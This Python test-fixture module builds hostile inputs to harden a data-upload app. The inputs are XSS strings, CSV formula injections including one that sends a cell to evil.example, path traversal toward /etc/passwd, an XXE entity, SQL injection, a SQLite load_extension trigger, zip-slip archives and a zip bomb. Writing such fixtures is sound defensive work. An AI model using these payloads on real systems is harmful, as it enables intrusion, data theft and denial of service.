"""What a stranger may put into a file, an address or a table: what tries to run, to leak or to overflow."""

from __future__ import annotations

import codecs
import csv
import io
import json
import sqlite3
import stat
import zipfile
from collections.abc import Mapping
from pathlib import Path

#: Texts that a page or a file must show letter by letter. Whatever runs sets ``window.ran``.
TEXTS: dict[str, str] = {
    "template literal": "`${window.ran = 1}` ${window.ran=2} `);window.ran=3;//",
    "script": "</script><script>window.ran = 4</script><!--<script>",
    "handlers": "<img src=x onerror='window.ran=5'><svg onload=\"window.ran=6\"><details open ontoggle=window.ran=7>",
    "attribute": "\"' onmouseover=window.ran=8 x=\" autofocus onfocus=window.ran=9 '",
    "markdown link": "[click](javascript:window.ran=10) <javascript:window.ran=11> ![x](https://evil.example/pixel.png)",
    "markdown": "# head\n\n- list\n1. one\n> quote\n***\n~~no~~ **b** _i_ | a | b |\n|---|---|",
    "directives": ":red[red] :material/home: :streamlit: :rainbow-background[x] :small[y] :gray-badge[z] :smile:",
    "latex": "$\\href{javascript:window.ran=12}{x}$ $$\\frac{1}{2}$$ \\(x\\)",
    "jinja": "{{7*7}} {% for x in ().__class__.__mro__ %}{{x}}{% endfor %} #{7*7} <%= 7*7 %> ${7*7}",
    "right to left": "safe\u202etxt.exe\u202c \u2066in\u2069 \u200f\u200e\u061c end\u202e",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u00adf\u2060g",
    "combining": "Z" + "\u0300\u0301\u0323" * 60,
    "formula =": "=cmd|' /C calc'!A0",
    "formula +": "+1+1+cmd|' /C calc'!A0",
    "formula -": "-2+3",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula full width": "＝1+1",
    "formula link": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\windows\\system32\\config\\sam C:\\con NUL.txt",
    "percent": "%3Cscript%3Ewindow.ran=13%3C/script%3E %00 %0d%0aSet-Cookie:x=1 %2e%2e%2f",
    "entities": "&lt;script&gt;window.ran=14&lt;/script&gt; &#x3c;b&#x3e; &amp;amp; ]]> <![CDATA[",
    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "json": '"}]},"x":[{"a":"\\u0000',
    "line separators": "a\u2028window.ran=15\u2029b\u0085c",
    "css": "</style><style>*{display:none}</style> url(https://evil.example/)",
    "sql": "'; DROP TABLE events; --",
    "format string": "%s%s%n {0} {.__class__} %(x)s",
    "long word": "W" * 3_000,
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
}

#: Texts that some ways in let through and others refuse: not every format can hold them.
RAW: dict[str, str] = {
    "nul": "a\0b",
    "controls": "\x01\x02\x07\x08\x0b\x0c\x0e\x1b[31mred\x1b[0m\x7f\x9b31m",
    "log line": "x\nERROR root: forged\r\nERROR again",
    "carriage return": "\r=1+1",
    "half a pair": "a\ud800b\udfff",
    "non-characters": "\ufffe\uffff",
}

#: All that an address can hold; half a character cannot be in one: browsers, clients and Streamlit replace it.
IN_ADDRESS = (*TEXTS.values(), *(text for name, text in RAW.items() if name != "half a pair"))

#: What the texts above would do in a spreadsheet, were they not guarded.
FORMULAS = tuple(name for name in TEXTS if name.startswith("formula"))

#: Columns of UCDP GED 24.1, in its order.
UCDP_COLUMNS = (
    "id", "relid", "year", "active_year", "code_status", "type_of_violence", "conflict_dset_id", "conflict_new_id",
    "conflict_name", "dyad_dset_id", "dyad_new_id", "dyad_name", "side_a_dset_id", "side_a_new_id", "side_a",
    "side_b_dset_id", "side_b_new_id", "side_b", "number_of_sources", "source_article", "source_office", "source_date",
    "source_headline", "source_original", "where_prec", "where_coordinates", "where_description", "adm_1", "adm_2",
    "latitude", "longitude", "geom_wkt", "priogrid_gid", "country", "country_id", "region", "event_clarity",
    "date_prec", "date_start", "date_end", "deaths_a", "deaths_b", "deaths_civilians", "deaths_unknown", "best",
    "high", "low", "gwnoa", "gwnob",
)  # fmt: skip


def table_of(rows: list[Mapping[str, str]], quoting: int = csv.QUOTE_ALL) -> bytes:
    """Rows as CSV in UTF-8, every cell in quotation marks."""
    text = io.StringIO()
    writer = csv.writer(text, quoting=quoting, lineterminator="\n")  # type: ignore[arg-type]
    writer.writerow(rows[0])
    writer.writerows(row.values() for row in rows)
    return text.getvalue().encode("utf-8", "surrogatepass")


def events_csv() -> bytes:
    """A table of events that is sound in form, with a hostile text in every free column of every row."""
    return table_of(
        [
            {
                "id": f"{number}", "date": "2024-07-25", "lat": f"{19 + number / 100:.2f}",
                "lon": f"{2 + number / 90:.2f}", "country": "Mali", "deaths": "4", "title": text, "place": text,
                "kind": text, "actors": text, "notes": text, "source": text,
            }
            for number, text in enumerate(TEXTS.values())
        ]
    )  # fmt: skip


def ucdp_csv() -> bytes:
    """A table that claims to be UCDP GED: all 49 columns, and nothing in them but hostile texts."""
    return table_of([dict.fromkeys(UCDP_COLUMNS, text) for text in TEXTS.values()])


def zip_of(files: Mapping[str, bytes], links: Mapping[str, str] | None = None) -> bytes:
    """A zip file; ``links`` are symbolic links in it."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
        for name, target in (links or {}).items():
            entry = zipfile.ZipInfo(name)
            entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, target)
    return stream.getvalue()


def geopackage(folder: Path, *statements: str) -> bytes:
    """An SQLite file that calls itself a GeoPackage, after some statements."""
    path = folder / "made.gpkg"
    path.unlink(missing_ok=True)
    with sqlite3.connect(path) as made:
        made.execute("PRAGMA application_id = 0x47504B47")
        made.execute("CREATE TABLE gpkg_contents (table_name TEXT, data_type TEXT, identifier TEXT, srs_id INTEGER)")
        for statement in statements:
            made.execute(statement)
    made.close()
    return path.read_bytes()


def small_files(folder: Path) -> dict[str, bytes]:
    """Files that are wrong in form, all of them small. ``folder`` is for what has to be made on a disk."""
    good = b"date,lat,lon,title\n2024-07-25,19,2,a\n"
    point = '{"type":"Feature","properties":{"date":"2024-07-25"},"geometry":{"type":"Point","coordinates":[%s,%s]}}'
    deep = b"[" * 100_000
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as archive:
        archive.writestr("a.csv", good)
        archive.writestr("a.csv", good)
    return {
        "hostile.csv": events_csv(),
        "ged.csv": ucdp_csv(),
        "raw.csv": table_of(
            [{"date": "2024-07-25", "lat": "19", "lon": "2", "title": text, "notes": text} for text in RAW.values()]
        ),
        "up.zip": zip_of({"../../up.csv": good}),
        "absolute.zip": zip_of({"/etc/cron.d/x.csv": good}),
        "drive.zip": zip_of({"C:\\x.csv": good}),
        "backslash.zip": zip_of({"..\\..\\x.csv": good}),
        "link.zip": zip_of({}, {"a.csv": "/etc/passwd"}),
        "twice.zip": twice.getvalue(),
        "nested.zip": zip_of({"inner.csv": zip_of({"a.csv": good})}),
        "names.zip": zip_of({f"{name}.csv": good for name in ("a\nb", "</script>", "\x1b[31m", "con", "a" * 300)}),
        "half.zip": zip_of({"a.csv": good})[:-30],
        "many.zip": zip_of({f"{number}.csv": b"" for number in range(1_500)}),
        "no-dbf.zip": zip_of({"a.shp": b"\0\0\x27\x0a" + bytes(96), "a.shx": b"\0\0\x27\x0a" + bytes(96)}),
        "empty-parts.zip": zip_of({"a.shp": b"", "a.shx": b"", "a.dbf": b"", "a.prj": TEXTS["xml"].encode()}),
        "wild-parts.zip": zip_of({f"a.{end}": b"\0\0\x27\x0a" + b"\xff" * 200 for end in ("shp", "shx", "dbf", "cpg")}),
        "deep.geojson": deep,
        "deep-inside.geojson": b'{"type":"FeatureCollection","features":' + deep,
        "rather-deep.geojson": b'{"type":"FeatureCollection","features":[' + deep[:950] + b"]" * 950 + b"]}",
        "deep-object.geojson": b'{"a":' * 100_000,
        "numbers.geojson": b'{"type":"FeatureCollection","features":[' + b",".join(
            (point % pair).encode() for pair in (("NaN", "1"), ("Infinity", "-Infinity"), ("1e999", "1"),
                                                 ("9" * 300, "1"), ("null", "[]"), ("true", '"1"'))
        ) + b"]}",
        "huge-number.geojson": (point % ("9" * 5_000, "1")).encode(),
        "keys.geojson": b'{"type":"x","type":"FeatureCollection","features":[],"features":['
                        + (point % (2, 19)).encode() + b"]}",
        "half-pair.geojson": json.dumps(
            {"type": "FeatureCollection", "features": [
                {"type": "Feature", "properties": {"date": "2024-07-25", "title": text, text[:90]: text},
                 "geometry": {"type": text, "coordinates": text}} for text in {**TEXTS, **RAW}.values()
            ]}
        ).encode(),
        "crs.geojson": json.dumps(
            {"type": "FeatureCollection", "features": [], "crs": {"properties": {"name": TEXTS["xml"] * 50}}}
        ).encode(),
        "wrong-header.gpkg": b"SQLite format 3\0" + b"\xff" * 4_000,
        "view.gpkg": geopackage(
            folder,
            "CREATE VIEW endless AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) "
            "SELECT x AS date FROM c",
            "INSERT INTO gpkg_contents VALUES ('endless', 'attributes', 'x', 4326)",
        ),
        "trigger.gpkg": geopackage(
            folder,
            "CREATE TABLE events (fid INTEGER PRIMARY KEY, date TEXT)",
            "INSERT INTO events VALUES (1, '2024-07-25')",
            "CREATE TRIGGER t AFTER INSERT ON events BEGIN SELECT load_extension('/tmp/x'); END",
            "INSERT INTO gpkg_contents VALUES ('events', 'attributes', 'x', 4326)",
        ),
        "contents-view.gpkg": geopackage(
            folder,
            "DROP TABLE gpkg_contents",
            "CREATE VIEW gpkg_contents AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) "
            "SELECT x AS table_name, 'features' AS data_type FROM c",
        ),
        "named.gpkg": geopackage(
            folder,
            'CREATE TABLE "a""; DROP TABLE x; --" (fid INTEGER PRIMARY KEY, date TEXT)',
            "INSERT INTO gpkg_contents VALUES ('a\"; DROP TABLE x; --', 'attributes', 'x', 4326)",
        ),
        "quotes.csv": b'date,title\n2024-07-25,"open\n' * 50,
        "long-name.csv": b"date,lat" + b"!" * 100_000 + b",lon\n" + b"x,y,z\n" * 100,
        "utf16.csv": codecs.BOM_UTF16_LE + events_csv().decode().encode("utf-16-le"),
        "utf32.csv": codecs.BOM_UTF32_LE + events_csv().decode().encode("utf-32-le"),
        "utf16-broken.csv": codecs.BOM_UTF16_BE + b"\xd8\x00" * 50,
        "garbage.csv": bytes(range(256)) * 40,
        "nul.csv": b"date,lat,lon\n" + b"\0" * 5_000,
        "empty.csv": b"",
        "page.csv": b"<html><script>window.ran=1</script>",
        "workbook.xlsx": zip_of({"[Content_Types].xml": b"", "xl/workbook.xml": TEXTS["xml"].encode()}),
    }  # fmt: skip


#: Files of many bytes, or of few that become many: name -> a Python expression for the bytes.
LARGE: dict[str, str] = {
    "a million columns": "b','.join(b'c%d' % n for n in range(1_000_000)) + b'\\n' + b','.join([b'1'] * 1_000_000)",
    "a line of 100 MB": "b'date,lat,lon\\n' + b'x' * 100_000_000",
    "100 MB of commas": "b'date,lat,lon\\n' + b',' * 100_000_000",
    "a row that never ends": "b'date,lat,lon\\n2024-01-01,1,1\\n' + b'\"\\n\",' * 20_000_000",
    "a name of 10 MB": "b'date,' + b'n' * 10_000_000 + b'\\n1,2\\n'",
    "cells of 10 MB": "b'date,lat,lon,title\\n' + (b'2024-07-25,19,2,' + b't' * 9_000_000 + b'\\n') * 3",
    "nothing but faults": "b'date,lat,lon,low,best,high,country\\n' + b'x,y,z,a,b,c,d\\n' * 1_500_000",
    "nothing but brackets": "b'{\"type\":\"FeatureCollection\",\"features\":[' + b'[],' * 20_000_000 + b'1]}'",
    "a zip bomb": "zipped({'a.csv': b'date,lat,lon\\n' + bytes(1_100_000_000)})",
    "a zip of a million": "b'PK\\x03\\x04' + b'PK\\x01\\x02' * 5_000_000 + b'PK\\x05\\x06' + bytes(18)",
}
